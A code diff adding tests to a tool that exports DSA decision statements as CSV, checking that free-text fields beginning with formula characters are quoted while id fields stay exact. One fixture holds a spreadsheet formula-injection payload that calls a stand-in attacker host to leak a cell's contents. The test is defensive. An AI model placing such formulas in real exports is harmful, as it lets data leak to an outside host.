@@ -289,6 +289,11 @@ def test_decisions_export_as_statements_that_reconcile_with_themselves(
     result = dsa.reconcile_dump(engine, dump)
     assert [m["statement_id"] for m in result.matched] == ["meta-7"]
     assert result.mismatched == [] and result.without_statement == 1
+    # Nothing here looks like a formula: the programs' form is the same file.
+    exact = tmp_path / "exact.csv"
+    done = runner.invoke(app, [*base, "--out", str(exact), "--format", "csv", "--exact-text"])
+    assert done.exit_code == 0, done.output
+    assert exact.read_text("utf-8") == dump.read_text("utf-8")
 
     # Filters: another recipient, or a period before the decision, give nothing.
     for narrower in (["--recipient", "x"], ["--to", "2025-06-30"]):
@@ -302,3 +307,29 @@ def test_decisions_export_as_statements_that_reconcile_with_themselves(
     ):
         done = runner.invoke(app, [*base, "--out", str(jsonl), *wrong])
         assert done.exit_code != 0 and named in done.output, done.output
+
+
+def test_the_dump_csv_quotes_free_text_a_spreadsheet_would_run_but_never_ids() -> None:
+    statement = {
+        "puid": "-77",  # an id: written as given, so the row still reconciles
+        "decision_ground": "DECISION_GROUND_ILLEGAL_CONTENT",
+        "decision_facts": '=HYPERLINK("http://attacker.example/?"&A1,"details")',
+        "illegal_content_explanation": "@SUM(1+1)",
+        "content_type_other": "a reel",
+    }
+
+    def written(**options: bool) -> dict[str, str]:
+        stream = io.StringIO(newline="")
+        assert dsa.write_dump([statement], stream, **options) == 1
+        stream.seek(0)
+        (row,) = csv.DictReader(stream)
+        return row
+
+    safe = written()
+    assert safe["decision_facts"] == "'" + statement["decision_facts"]
+    assert safe["illegal_content_explanation"] == "'@SUM(1+1)"
+    assert safe["content_type_other"] == "a reel"
+    assert safe["platform_uid"] == "-77"
+    exact = written(for_spreadsheets=False)
+    assert exact["decision_facts"] == statement["decision_facts"]
+    assert set(dsa.FREE_TEXT_COLUMNS) <= set(dsa.DUMP_COLUMNS)
